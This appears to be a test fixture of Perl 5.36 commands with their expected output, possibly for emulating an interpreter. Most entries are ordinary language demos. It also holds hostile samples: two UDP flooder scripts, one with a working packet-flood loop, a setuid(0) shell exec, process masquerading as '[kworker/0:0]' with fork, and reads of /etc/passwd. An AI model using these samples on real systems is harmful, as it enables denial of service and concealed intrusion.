# perl 5.36.0: programs as visitors bring and type them.

#### hashes, map and grep
perl -e 'my %h=(a=>1,b=>2); foreach my $k (sort keys %h) { print "$k=$h{$k}\n" } my @a=map { $_*2 } grep { $_%2 } 1..5; print "@a\n"; print join(",",reverse @a),"\n"; print scalar(@a),"\n"; local $_="foo bar"; my ($x,$y)=/(\w+) (\w+)/; print "$y $x\n"'
#> a=1
#> b=2
#> 2 6 10
#> 10,6,2
#> 3
#> bar foo

#### a flooder of many options tells of itself
cat > /tmp/udp.pl <<'EOF'
#!/usr/bin/perl
use Socket;
use strict;
use Getopt::Long;
use Time::HiRes qw( usleep gettimeofday ) ;
our $port = 0; our $size = 0; our $time = 0; our $bw = 0; our $help = 0; our $delay = 0;
GetOptions("port=i" => \$port, "size=i" => \$size, "bandwidth=i" => \$bw, "time=i" => \$time, "delay=f"=> \$delay, "help|?" => \$help);
my ($ip) = @ARGV;
if ($help || !$ip) {
  print <<'EOL';
flood.pl --port=dst-port --size=pkt-size --time=secs
         --bandwidth=kbps --delay=msec ip-address
EOL
  exit(1);
}
print "Flooding $ip\n";
EOF
perl /tmp/udp.pl; echo $?; perl /tmp/udp.pl --port=53 192.0.2.1
#> flood.pl --port=dst-port --size=pkt-size --time=secs
#>          --bandwidth=kbps --delay=msec ip-address
#> 1
#> Flooding 192.0.2.1

#### a flooder without arguments tells of itself
cat > /tmp/ddos.pl <<'EOF'
#!/usr/bin/perl
use Socket;
$ARGC=@ARGV;
if ($ARGC !=3) {
 print "$0 <ip> <port> <time>\n";
 print "for random port set to 0\n";
 exit(1);
}
my ($ip,$port,$size,$time);
 $ip=$ARGV[0];
 $port=$ARGV[1];
 $time=$ARGV[2];
socket(crazy, PF_INET, SOCK_DGRAM, 17);
    $iaddr = inet_aton("$ip");
printf "Hitting $ip on port $port for $time seconds\n";
if ($ARGV[1] ==0 && $ARGV[2] ==0) { goto randpackets; }
if ($ARGV[1] !=0 && $ARGV[2] !=0) {
 system("(sleep $time;killall -9 udp) &");
 goto packets;
}
packets:
for (;;) {
 $size=$rand x $rand x $rand;
 send(crazy, 0, $size, sockaddr_in($port, $iaddr));
}
EOF
perl /tmp/ddos.pl; echo $?
#> /tmp/ddos.pl <ip> <port> <time>
#> for random port set to 0
#> 1

#### numbers and strings
perl -e 'print "\x41\x{42}\103\n"; $s="abc"; print "len ${\length $s} @{[uc $s]}\n"; print "a" . 1+2, "\n"; print 10/3, " ", 2**0.5, " ", 1e20, " ", 1/7, " ", int(-3.7), " ", -7 % 3, " ", 0.1+0.2, " ", 1_000_000*1_000_000, " ", 9999999999999999, "\n"'
#> ABC
#> len 3 ABC
#> 2
#> 3.33333333333333 1.4142135623731 1e+20 0.142857142857143 -3 2 0.3 1000000000000 9999999999999999

#### arrays and hashes in each other
perl -e 'my @a=(3,1,2); my ($min)=sort { $a <=> $b } @a; print "$min $#a $a[-1] @a[1..2]\n"; my %h; push @{$h{x}}, 1,2; $h{y}{z}=5; print exists $h{x} ? "yes":"no", " $h{x}[1] $h{y}->{z} ", join(",", sort keys %h), "\n"; my @s = splice(@a,0,2); print "@s|@a\n"; print "last\n" unless @a > 1; my $str = join "-", map { sprintf "%02x", $_ } unpack("C*", "AZ"); print "$str\n"; print "ok\n" if grep { $_ eq "2" } @a;'
#> 1 2 2 1 2
#> yes 2 5 x,y
#> 3 1|2
#> last
#> 41-5a
#> ok

#### patterns, split, captures
perl -e '$x="hello world"; ($y=$x)=~s/(\w+)/<$1>/g; print "$y\n"; $x=~tr/a-y/b-z/; print "$x\n"; print "pos: $-[0] $+[0]\n" if "foobar"=~/o+/; @w=split /,/, "a,b,,c,,"; print scalar(@w),"\n"; print join("|",split(//,"abc")),"\n"; print join("|",split(" ","  a b  c ")),"\n"; $_="x=1;y=2"; while(/(\w)=(\d)/g){print "$1:$2 "} print "\n"; $n=()=/\d/g; print "$n\n"; ($a,$b)=/(?<k>\w)=(?<v>\d)/; print "$+{k} $+{v}\n"; print "yes\n" if "ABC"=~/abc/i; $s="aXbX"; $s=~s/X/ucfirst("y")/ge; print "$s\n";'
#> <hello> <world>
#> ifmmp xpsme
#> pos: 1 3
#> 4
#> a|b|c
#> a|b|c
#> x:1 y:2 
#> 2
#> x 1
#> yes
#> aYbY

#### ranges, counting up, repetition
perl -e 'print ucfirst(lc("HELLO")), " ", reverse("abc")." ", scalar reverse("abc"), " ", "abc" x 2, " ", "-" x 10, "\n"; print "a".."e"; print "\n"; print join(",", (1..3, "x")), "\n"; my @sorted = sort { $b cmp $a } qw(pear apple fig); print "@sorted\n"; print "chained: ", (5 <=> 3), (2 cmp 10), "\n"; print ((1,2,3)[1]); print "\n"; my ($first, @rest) = (1,2,3); print "$first|@rest\n"; print wantarray() ? "l":"s", "\n"; @x = (1) x 3; print "@x\n"; $i=5; print $i++ + ++$i, "\n"; $z="az"; $z++; print "$z\n"; $z="Zz"; $z++; print "$z\n"; $z="a9"; $z++; print "$z\n";'
#> Hello cba cba abcabc ----------
#> abcde
#> 1,2,3,x
#> pear fig apple
#> chained: 11
#> 2
#> 1|2 3
#> s
#> 1 1 1
#> 12
#> ba
#> AAa
#> b0

#### POSIX and time
perl -MPOSIX -e 'print floor(3.7), ceil(3.2), " ", strftime("%Y-%m-%d", gmtime(86400*365)), "\n"'; perl -e 'print scalar(gmtime(0)), "\n"; @t=gmtime(1e9); print "@t\n"; '
#> 34 1971-01-01
#> Thu Jan  1 00:00:00 1970
#> 40 46 1 9 8 101 0 251 0

#### digests and List::Util
perl -MDigest::MD5=md5_hex -e 'print md5_hex("abc"),"\n"'; perl -MDigest::SHA=sha1_hex,sha256_hex -le 'print sha1_hex("abc"); print sha256_hex("")'; perl -MList::Util=sum,max,first -le 'print sum(1..4), " ", max(3,9,2), " ", first { $_ > 2 } 1..5'
#> 900150983cd24fb0d6963f7d28e17f72
#> a9993e364706816aba3e25717850c26c9cd0d89d
#> e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855
#> 10 9 3

#### classes and what they lack
perl -e 'package Animal; sub new { my ($class,%a)=@_; my $self={name=>$a{name}||"none"}; return bless $self,$class } sub speak { my $self=shift; print $self->{name}," says ",$self->sound,"\n" } package Dog; our @ISA=("Animal"); sub sound { "Woof" } package main; my $d=Dog->new(name=>"Rex"); $d->speak; print ref($d),"\n"; print $d->isa("Animal")?1:0, Dog->can("sound")?1:0, "\n"; eval { $d->nosuch }; print $@; eval { Foo->new }; print $@; my $m="sound"; print $d->$m, "\n";'
#> Rex says Woof
#> Dog
#> 11
#> Can't locate object method "nosuch" via package "Dog" at -e line 1.
#> Can't locate object method "new" via package "Foo" (perhaps you forgot to load "Foo"?) at -e line 1.
#> Woof

#### closures, contexts, what is done to @_
perl -e 'my $c = do { my $n=0; sub { return ++$n } }; $c->(); print $c->(), "\n"; my @subs = map { my $x=$_; sub { $x*10 } } 1..3; print join(",", map { $_->() } @subs), "\n"; sub ctx { wantarray ? "list" : "scalar" } my @l = ctx(); my $s = ctx(); print "$l[0] $s\n"; my %d = (add => sub { $_[0]+$_[1] }); print $d{add}->(2,3), "\n"; sub mod { $_[0] = "changed" } my $v="orig"; mod($v); print "$v\n"; local $, = "-"; local $\ = "!\n"; print 1,2,3;'
#> 2
#> 10,20,30
#> list scalar
#> 5
#> changed
#> 1-2-3!

#### files, pipes and directories
perl -e 'open(my $f, ">", "/tmp/pf") or die; print $f "l1\nl2\nl3\n"; printf $f "%s\n", "l4"; close $f; open(F, "/tmp/pf"); my $first=<F>; my @rest=<F>; close(F); print "$first", scalar(@rest), "\n"; open(F,">>/tmp/pf"); print F "more\n"; close F; print -s "/tmp/pf", " ", (-d "/tmp" ? "d":"-"), (-x "/bin/ls" ? "x":"-"), "\n"; open(P,"echo piped|"); print <P>; close P; open(P,"|cat"); print P "to cat\n"; close P; unlink "/tmp/pf"; print -e "/tmp/pf" ? "there":"gone", "\n"; opendir(D,"/etc/apt"); print join(" ", sort grep !/^\./, readdir D), "\n"; mkdir "/tmp/pd", 0700; printf "%o\n", (stat "/tmp/pd")[2] & 07777; rmdir "/tmp/pd"; print join(" ", map { (split "/")[-1] } glob("/etc/apt/*.d")), "\n"; open(Q,"<","/nope") || print "err: $!\n"; print $!+0, "\n"'
#> l1
#> 3
#> 17 dx
#> piped
#> to cat
#> gone
#> apt.conf.d auth.conf.d keyrings preferences.d sources.list sources.list.d trusted.gpg.d
#> 700
#> apt.conf.d auth.conf.d preferences.d sources.list.d trusted.gpg.d
#> err: No such file or directory
#> 2

#### die, warn, eval
perl -e 'die {code=>3}' 2>&1 | sed 's/0x.*)/X)/'; perl -e 'die' ; perl -e 'warn "careful"; warn "x\n"'; perl -e 'eval { die "in eval\n" }; print "got $@"; eval { my $x = 1/0; }; print $@; eval "1 +"; print $@ ? "syntax err\n" : "none\n"; $r = eval { 42 }; print "$r\n"; $SIG{__DIE__}=sub { print "handler: $_[0]" }; die "final\n"'; echo $?
#> HASH(X)got in eval
#> Illegal division by zero at -e line 1.
#> syntax err
#> 42
#> handler: final
#> 255
#! Died at -e line 1.
#! careful at -e line 1.
#! x
#! final

#### switches: -0 -p -i -F -n -l
perl -0777 -ne 'print length($_) > 100 ? "long\n" : "short\n"' /etc/passwd; perl -i -pe 's/a/b/' /tmp/none; printf 'one\ntwo\n' > /tmp/pi; perl -pi -e 's/o/0/g' /tmp/pi; cat /tmp/pi; perl -pi.bak -e 's/0/o/' /tmp/pi; ls /tmp/pi*; perl -ne 'END { print $. }' /tmp/pi; echo; perl -F: -lane 'print $F[0] if $F[2]==0' /etc/passwd; perl -lpe '$_=reverse' <<< abc; perl -ne 'print if 2..3' <<< $'1\n2\n3\n4'; perl -nE 'say $.' <<< $'a\nb'
#> long
#> 0ne
#> tw0
#> /tmp/pi
#> /tmp/pi.bak
#> 2
#> root
#> cba
#> 2
#> 3
#> 1
#> 2
#! Can't open /tmp/none: No such file or directory.

#### an alarm and signals
perl -e '$SIG{ALRM}=sub{die "timeout\n"}; eval { alarm 1; sleep 3; alarm 0; }; print $@'; perl -e '$SIG{INT}="IGNORE"; kill INT => $$; print "alive\n"; '; echo $?
#> timeout
#> alive
#> 0

#### loops and labels
perl -e 'for(my $i=0;$i<3;$i++){ next if $i==1; print "i$i " } print "\n"; OUTER: for my $a (1..3) { for my $b (1..3) { next OUTER if $b==2; print "$a$b " } } print "\n"; my $n=3; while($n--) { last if $n==0; print $n } print "\n"; do { print "once\n" } while (0); until ($n>1) { $n++ } print "$n\n"; print "$_ " foreach reverse 1..3; print "\n"; my @q=(1,2,3); while (my $e = shift @q) { print $e; } print "\n"; unless (0) { print "u\n" } else { print "e\n" } { local $x = 5; print "$x\n"; } my $res = $n > 1 ? "big" : $n == 1 ? "one" : "small"; print "$res\n";'
#> i0 i2 
#> 11 21 31 
#> 21
#> once
#> 2
#> 3 2 1 
#> 123
#> u
#> 5
#> big

#### the environment, commands and their status
perl -e '@ISA=1; print "$0 $^O $]\n"; print "$ENV{HOME} @ARGV[0,1]\n"; $ENV{FOO}="bar"; system("echo \$FOO"); system("sh","-c","exit 3"); print $?>>8, "\n"; my $o=`echo out; exit 2`; print $o, $?>>8, "\n"; my @l=`printf "a\nb\n"`; print scalar(@l),"\n"; print qx(id -u); exec("echo","execd")' a b
#> -e linux 5.036000
#> /root a b
#> bar
#> 3
#> out
#> 2
#> 2
#> 0
#> execd

#### pack and unpack, numbers in other bases
perl -e 'print unpack("u", "#86)C"),"\n"; print pack("A3 n C", "abcd", 258, 65), "\n"; print join(",", unpack("N n C a2", pack("N n C a2", 1, 2, 3, "xy"))), "\n"; print unpack("H*", pack("V", 1)), " ", unpack("%32C*", "abc"), " ", pack("B8", "01000001"), " ", unpack("b8", "A"), "\n"; print ord("a"), chr(98), " ", hex("ff"), " ", oct("0x1f"), " ", oct("755"), " ", oct("0b11"), "\n"; print lc("ÀB"), " ", sprintf("%vd", "1.2.3"), " ", join(",", sort { $a <=> $b } (10, 9, 2)), " ", "10" + "20", " ", "3 apples" * 2, " ", "abc" == 0 ? "eq" : "ne", "\n";'
#> abc
#> abcA
#> 1,2,3,xy
#> 01000000 294 A 10000010
#> 97b 255 31 493 3
#> Àb 49.46.50.46.51 2,9,10 30 6 eq

#### base64
perl -MMIME::Base64 -e 'print decode_base64("aGVsbG8K")'; perl -e 'use MIME::Base64; print encode_base64("hello world");'; perl -e 'print pack("H*","68690a")'; perl -e 'print unpack("H*","abc"),"\n"'
#> hello
#> aGVsbG8gd29ybGQ=
#> hi
#> 616263

#### users, commands, exec
perl -e 'use POSIX qw(setuid); POSIX::setuid(0); exec "/bin/sh", "-c", "id -u";'; perl -e 'exec "/bin/sh -c \"echo x\""'; perl -e 'system("echo sys"); print `echo bt`; print $?, "\n"'
#> 0
#> x
#> sys
#> bt
#> 0

#### what it says of programs that are none
perl -e 'die "oops"'; echo $?; perl -e 'print 1/0'; perl -e 'foo('; perl -e 'use strict; $x=1;'; perl -e 'use NoSuch;'; perl /nope.pl; perl -e 'nosub(1)'; perl -z
#> 255
#! oops at -e line 1.
#! Illegal division by zero at -e line 1.
#! syntax error at -e line 1, at EOF
#! Execution of -e aborted due to compilation errors.
#! Global symbol "$x" requires explicit package name (did you forget to declare "my $x"?) at -e line 1.
#! Execution of -e aborted due to compilation errors.
#! Can't locate NoSuch.pm in @INC (you may need to install the NoSuch module) (@INC contains: /etc/perl /usr/local/lib/x86_64-linux-gnu/perl/5.36.0 /usr/local/share/perl/5.36.0 /usr/lib/x86_64-linux-gnu/perl5/5.36 /usr/share/perl5 /usr/lib/x86_64-linux-gnu/perl-base /usr/lib/x86_64-linux-gnu/perl/5.36 /usr/share/perl/5.36 /usr/local/lib/site_perl) at -e line 1.
#! BEGIN failed--compilation aborted at -e line 1.
#! Can't open perl script "/nope.pl": No such file or directory
#! Undefined subroutine &main::nosub called at -e line 1.
#! Unrecognized switch: -z  (-h will show valid options).
#? 29

#### files of lines
perl -e 'open(F,"</etc/passwd") or die "no: $!"; while(<F>){ chomp; my @f=split /:/; print "$f[0]\n" if $. < 4 } close F; open(G,">/nope/x") or print "fail: $!\n"; print -e "/etc/passwd" ? "yes\n":"no\n"; print sprintf("%05.1f|%-5s|%x\n",3.14159,"ab",255)'
#> root
#> daemon
#> bin
#> fail: No such file or directory
#> yes
#> 003.1|ab   |ff

#### a name of its own, and fork
perl -e '$0="[kworker/0:0]"; print "$0\n"; fork and exit; print "child\n"; sleep 0'; perl -le 'print for 1..3; print "@ARGV"' x y; perl -e 'print "a".."e","\n"; print "x" x 5, "\n"; print lc("ABC"), uc "def", ucfirst("ghi"), length("four"), substr("hello",1,3), index("hello","l"), "\n"'
#> [kworker/0:0]
#> child
#> 1
#> 2
#> 3
#> x y
#> abcde
#> xxxxx
#> abcDEFGhi4ell2

#### a script with strict
cat > /tmp/t.pl <<'EOF'
#!/usr/bin/perl
use strict;
use warnings;
my $n = shift // 3;
sub fact { my $n = shift; return $n <= 1 ? 1 : $n * fact($n-1); }
print "fact($n) = ", fact($n), "\n";
my @list = sort { $b <=> $a } (3, 10, 2);
print "@list[0,1] last=$#list\n";
my $str = "The quick brown fox";
(my $copy = $str) =~ tr/a-z/A-Z/;
print "$copy\n";
my $count = () = $str =~ /o/g;
print "o: $count\n";
my $ref = { name => 'x', list => [1,2,[3,4]] };
print "$ref->{list}[2][1] @{$ref->{list}}[0] ", ref($ref), "\n";
for my $i (0..$#list) { next if $i == 1; print "$i: $list[$i]\n"; }
print <<"END";
heredoc $n @{[ 1+2 ]}
END
eval { die { code => 5 } }; print "caught $@->{code}\n";
eval { die "x\n" }; print "caught: $@";
while (my ($i, $v) = each @list) { print "$i=$v;" } print "\n";
print "ok\n" if "abc" =~ /^a.c$/ and not 0;
exit(2);
EOF
perl /tmp/t.pl 5; echo "status $?"; perl -c /tmp/t.pl
#> fact(5) = 120
#> 10 3 last=2
#> THE QUICK BROWN FOX
#> o: 2
#> 4 1 HASH
#> 0: 10
#> 2: 2
#> heredoc 5 3
#> caught 5
#> caught: x
#> 0=10;1=3;2=2;
#> ok
#> status 2
#! /tmp/t.pl syntax OK
